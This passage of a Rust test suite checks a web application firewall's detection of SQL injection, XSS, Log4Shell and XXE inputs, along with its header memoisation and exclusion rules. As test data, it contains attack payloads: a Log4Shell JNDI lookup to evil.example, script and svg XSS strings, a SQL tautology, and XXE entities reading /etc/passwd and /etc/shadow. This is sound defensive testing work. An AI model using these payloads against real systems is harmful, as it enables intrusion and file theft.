        Some(CrsError::InvalidExclusion { index: 0, .. })
    ));
    assert!(crs_rule_ids(Paranoia::Normal).contains(&942140));
    assert!(!crs_rule_ids(Paranoia::Normal).contains(&942540));
    assert!(crs_rule_ids(Paranoia::Strict).contains(&942540));
    assert!(crs_rule_message(942140).is_some_and(|m| m.contains("SQL")));
}

/// CRS anomaly scoring at `Paranoia::Strict`: 942430 (12 special characters) is a WARNING (3
/// points), below the threshold of 5 alone; twice in one request it blocks.
#[test]
fn crs_warnings_block_only_together() {
    let Ok(strict) = Waf::new(WafConfig {
        paranoia: Paranoia::Strict,
        ..WafConfig::default()
    }) else {
        panic!("strict config rejected")
    };
    let one = form_with(&strict, b"a=x~x~x~x~x~x~x~x~x~x~x~x~x~x");
    assert_eq!(one, vec![]);
    let two = form_with(
        &strict,
        b"a=x~x~x~x~x~x~x~x~x~x~x~x~x~x&b=y~y~y~y~y~y~y~y~y~y~y~y~y~y",
    );
    assert_eq!(
        crs_ids(&two),
        vec![
            (RuleId::Sqli, "form:a", Some(942430)),
            (RuleId::Sqli, "form:b", Some(942430))
        ]
    );
    // At the default level the PL2 rule does not run at all.
    assert_eq!(
        form_with(
            &waf(),
            b"a=x~x~x~x~x~x~x~x~x~x~x~x~x~x&b=y~y~y~y~y~y~y~y~y~y~y~y~y~y"
        ),
        vec![]
    );
}

#[test]
fn crs_xss_rules_skip_plain_paths_but_read_others() {
    // 941010: a path of letters, digits and `-./_` is exempt from the xss-perf-disable rules.
    assert_eq!(get("/docs/window.location", None), vec![]);
    let findings = get("/docs/%22window.location%22", None);
    assert_eq!(
        crs_ids(&findings),
        vec![(RuleId::Xss, "path", Some(941180))]
    );
}

fn at(waf: &Waf, path: &str, headers: &[(&str, &[u8])]) -> Vec<(RuleId, String)> {
    waf.inspect(&RequestView {
        method: "GET",
        path,
        query: None,
        headers,
        content_type: None,
        body: b"",
    })
    .into_iter()
    .map(|f| (f.rule, f.field))
    .collect()
}

const BROWSER: [(&str, &[u8]); 4] = [
    ("host", b"shop.example"),
    (
        "user-agent",
        b"Mozilla/5.0 (X11; Linux x86_64) header-set memo",
    ),
    ("accept", b"text/html,application/xhtml+xml"),
    ("cookie", b"session=abc123; theme=dark"),
];

#[test]
fn a_clean_header_set_stays_clean_and_any_change_is_inspected() {
    let w = waf();
    assert_eq!(at(&w, "/", &BROWSER), vec![]);
    assert_eq!(at(&w, "/", &BROWSER), vec![]);
    // One value changed, one header added, a value moved to another name: each a new set.
    let mut changed = BROWSER;
    changed[3] = ("cookie", b"session=1' or '1'='1; theme=dark");
    assert_eq!(
        at(&w, "/", &changed),
        vec![(RuleId::Sqli, "cookie:session".to_owned())]
    );
    let mut added = BROWSER.to_vec();
    added.push(("referer", b"<script>alert(1)</script>"));
    assert_eq!(
        at(&w, "/", &added),
        vec![(RuleId::Xss, "header:referer".to_owned())]
    );
    // Names and values run together, a clean set and an attack would be the same bytes.
    let clean: [(&str, &[u8]); 2] = [("x-a", b"1x-b$"), ("{jndi:ldap:", b"//e/x}")];
    let attack: [(&str, &[u8]); 2] = [("x-a", b"1"), ("x-b", b"${jndi:ldap://e/x}")];
    assert_eq!(at(&w, "/", &clean), vec![]);
    assert_eq!(
        at(&w, "/", &attack),
        vec![(RuleId::Log4shell, "header:x-b".to_owned())]
    );
    assert_eq!(at(&w, "/", &BROWSER), vec![]);
}

#[test]
fn per_request_headers_are_inspected_even_when_the_set_is_known() {
    let w = waf();
    let mut headers = BROWSER.to_vec();
    headers.push(("x-request-id", b"req-1"));
    assert_eq!(at(&w, "/", &headers), vec![]);
    headers[4] = ("x-request-id", b"${jndi:ldap://evil.example/a}");
    assert_eq!(
        at(&w, "/", &headers),
        vec![(RuleId::Log4shell, "header:x-request-id".to_owned())]
    );
}

#[test]
fn a_header_set_one_waf_found_clean_is_inspected_again_by_another() {
    // The same headers, first through a WAF without XSS, then through one with it.
    let headers: [(&str, &[u8]); 2] = [
        ("host", b"shop.example"),
        ("referer", b"<svg onload=alert(1)>"),
    ];
    let no_xss = match Waf::new(WafConfig {
        xss: false,
        ..WafConfig::default()
    }) {
        Ok(w) => w,
        Err(e) => panic!("{e}"),
    };
    assert_eq!(at(&no_xss, "/", &headers), vec![]);
    assert_eq!(at(&no_xss, "/", &headers), vec![]);
    assert_eq!(
        at(&waf(), "/", &headers),
        vec![(RuleId::Xss, "header:referer".to_owned())]
    );
}

#[test]
fn headers_clean_under_an_exclusion_are_not_remembered_as_clean() {
    let w = match Waf::new(WafConfig {
        exclusions: vec![Exclusion {
            path_prefix: "/cms/".to_owned(),
            rules: vec![RuleId::Xss],
            fields: vec!["header:referer".to_owned()],
        }],
        ..WafConfig::default()
    }) {
        Ok(w) => w,
        Err(e) => panic!("{e}"),
    };
    let headers: [(&str, &[u8]); 2] = [
        ("host", b"shop.example"),
        ("referer", b"<script>alert(1)</script>"),
    ];
    assert_eq!(at(&w, "/cms/page", &headers), vec![]);
    assert_eq!(at(&w, "/cms/page", &headers), vec![]);
    assert_eq!(
        at(&w, "/shop", &headers),
        vec![(RuleId::Xss, "header:referer".to_owned())]
    );
}

#[test]
fn per_request_header_names_are_recognised_by_length_and_name() {
    for name in [
        "x-request-id",
        "x-correlation-id",
        "x-signature",
        "x-timestamp",
        "traceparent",
        "tracestate",
        "baggage",
        "sentry-trace",
        "x-amzn-trace-id",
        "x-b3-traceid",
        "x-b3-spanid",
        "x-b3-parentspanid",
        "content-length",
        "date",
    ] {
        assert!(per_request(name), "{name}");
        assert!(per_request(&name.to_ascii_uppercase()), "{name}");
    }
    for name in [
        "host",
        "user-agent",
        "accept",
        "cookie",
        "x-api-key",
        "x-requestid",
    ] {
        assert!(!per_request(name), "{name}");
    }
}

/// What `inspect` reports for one header, as (rule, CRS rule) pairs.
fn verdict(waf: &Waf, name: &str, value: &[u8]) -> Vec<(RuleId, Option<u32>)> {
    waf.inspect(&RequestView {
        method: "GET",
        path: "/",
        query: None,
        headers: &[(name, value)],
        content_type: None,
        body: b"",
    })
    .into_iter()
    .map(|f| (f.rule, f.crs_rule))
    .collect()
}

/// `signature_form` inspects a signature's 64 hex digits as zeros. Under a header name that
/// is not normalized, random digits and zeros must get the same verdict from every detector,
/// at both paranoia levels, whatever the key id (ids chosen to look like SQL, commands and
/// numbers, which the digits must neither complete nor break up).
#[test]
fn signature_digits_change_no_verdict() {
    let mut next = xorshift(0x9e37_79b9_7f4a_7c15);
    let ids = [
        "ci",
        "1",
        "a--b",
        "1--",
        "union-select-1",
        "or-1-1",
        "select-sleep-5",
        "cat-etc-passwd",
        "4294967295",
        "0x41",
        "javascript-alert",
        &"k".repeat(64),
    ];
    let strict = Waf::new(WafConfig {
        paranoia: Paranoia::Strict,
        ..WafConfig::default()
    })
    .expect("strict WAF");
    for w in [waf(), strict] {
        for id in ids {
            let zeros = format!("keyId={id},signature={}", "0".repeat(64));
            let expected = verdict(&w, "x-probe", zeros.as_bytes());
            for _ in 0..150 {
                let digits: String = (0..64)
                    .map(|_| char::from(b"0123456789abcdef"[(next() >> 20) as usize % 16]))
                    .collect();
                let real = format!("keyId={id},signature={digits}");
                assert_eq!(verdict(&w, "x-probe", real.as_bytes()), expected, "{real}");
            }
        }
    }
}

#[test]
fn signature_headers_in_the_clients_form_are_inspected_by_key_id_and_remembered() {
    let w = waf();
    let value = format!("keyId=ci-signed,signature={}", "5a".repeat(32));
    assert_eq!(verdict(&w, "X-Signature", value.as_bytes()), vec![]);
    // Remembered with its digits as zeros, so the next request's new digits hit the memo.
    let form = format!("keyId=ci-signed,signature={}", "0".repeat(64));
    assert_ne!(memo::known_clean(Class::Header, form.as_bytes()), 0);
    assert_eq!(memo::known_clean(Class::Header, value.as_bytes()), 0);
    // Any other form is inspected as sent (a Log4Shell lookup is caught in any header).
    for odd in [
        format!("keyId=${{jndi:ldap://x/a}},signature={}", "5a".repeat(32)),
        format!("signature={},keyId=${{jndi:ldap://x/a}}", "5a".repeat(32)),
        format!("keyId=ci,signature={}${{jndi:ldap://x/a}}", "5a".repeat(32)),
    ] {
        assert_ne!(verdict(&w, "x-signature", odd.as_bytes()), vec![], "{odd}");
    }
}

#[test]
fn per_request_header_values_are_not_remembered() {
    let w = waf();
    let id = b"req-7f3c2a91-not-remembered";
    let agent = b"Mozilla/5.0 (X11; Linux x86_64) remembered agent";
    assert_eq!(
        at(&w, "/", &[("x-request-id", id), ("user-agent", agent)]),
        vec![]
    );
    assert_eq!(memo::known_clean(Class::Header, id), 0);
    assert_ne!(memo::known_clean(Class::Header, agent), 0);
}

#[test]
fn xxe_declarations_naming_local_files_are_traversal_and_plain_doctypes_pass() {
    for dtd in [
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>"#,
        r#"<!DOCTYPE r [<!ENTITY x SYSTEM "../../../../etc/shadow">]>"#,
    ] {
        let findings = post("application/xml", format!("{dtd}<r>&x;</r>").as_bytes());
        assert_eq!(
            rules_and_fields(&findings),
            vec![(RuleId::Traversal, "xml:!DOCTYPE")],
            "{dtd}"
        );
    }
    // Markup and quotes are a declaration's syntax, not an injection: no SQLi, XSS or CRS rule
    // reads it.
    for dtd in [
        r#"<!DOCTYPE note SYSTEM "note.dtd">"#,
        r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
        r#"<!DOCTYPE r [<!ELEMENT r (#PCDATA)><!ATTLIST r id CDATA #IMPLIED><!ENTITY company "Example & Co">]>"#,
    ] {
        let findings = post("application/xml", format!("{dtd}<r>text</r>").as_bytes());
        assert!(findings.is_empty(), "{dtd}: {findings:?}");
    }
}
